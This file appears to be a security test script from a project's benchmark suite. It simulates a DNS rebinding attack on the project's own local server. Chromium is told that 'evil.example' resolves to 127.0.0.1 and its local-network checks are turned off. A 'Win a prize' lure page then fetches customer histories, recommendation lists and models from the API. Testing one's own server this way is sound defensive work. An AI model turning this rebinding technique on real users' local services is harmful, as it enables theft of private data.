"""A page of another name that resolves to this machine: ``python benchmarks/attacks/rebinding.py``.

Chromium is told that ``evil.example`` is 127.0.0.1, as a hostile name server says after its page was loaded. The page, which is of
the same origin as the server for the browser, asks for customers' histories, lists and the models. Prints what it could read;
exit code 1 if it read anything.
"""

from __future__ import annotations

import shutil
import sys
import tempfile
from pathlib import Path
from typing import Any

from under_attack import options_of, put_shop, serving, table

EVIL = "evil.example"
PAGE = "<!doctype html><title>Win a prize</title>"
READ = """async (path) => {
  try {
    const answer = await fetch(path);
    return [answer.status, await answer.text()];
  } catch (error) {
    return [0, String(error)];
  }
}"""


def main() -> None:
    """Serve without keys, let the page ask, and print what it read."""
    options = options_of(__doc__, users=20)
    with tempfile.TemporaryDirectory() as scratch:
        folder = Path(scratch)
        users, _ = put_shop(folder / "models", python=options.python)
        some = users[: options.users]
        asked = {
            "customers' histories": [f"/api/v1/users/{user}/history" for user in some],
            "customers' lists": [f"/api/v1/recommendations/users/{user}" for user in some],
            "the models": ["/api/v1/models"],
            "the page of the server": ["/"],
        }
        with serving(options.python, folder / "models", folder / "log", "--quiet") as server:
            found = ask_as_a_page(server.port, asked)
    rows: list[tuple[str, object]] = []
    for what, answers in found.items():
        statuses = sorted({status for status, _ in answers})
        read = sum(status == 200 for status, _ in answers)
        rows.append((f"{what}, asked by a page of {EVIL}", f"{read} of {len(answers)} read ({statuses})"))
    print(table(rows))
    raise SystemExit(any(status == 200 for answers in found.values() for status, _ in answers))


def ask_as_a_page(port: int, asked: dict[str, list[str]]) -> dict[str, list[list[Any]]]:
    """Open a page of another name, whose name then leads here, and return what its requests read."""
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        print("this needs playwright: pip install playwright", file=sys.stderr)
        raise SystemExit(2) from None
    program = shutil.which("chromium") or shutil.which("chromium-browser")
    if program is None:
        print("this needs chromium: apt-get install chromium", file=sys.stderr)
        raise SystemExit(2)
    rebound = [
        "--no-sandbox",
        f"--host-resolver-rules=MAP {EVIL} 127.0.0.1",
        "--disable-features=LocalNetworkAccessChecks",  # new Chromiums refuse by themselves, other browsers do not
    ]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=program, args=rebound)
        page = browser.new_page()
        address = f"http://{EVIL}:{port}/prize"
        page.route(address, lambda route: route.fulfill(body=PAGE, content_type="text/html"))
        page.goto(address)
        return {what: [page.evaluate(READ, path) for path in paths] for what, paths in asked.items()}


if __name__ == "__main__":
    main()
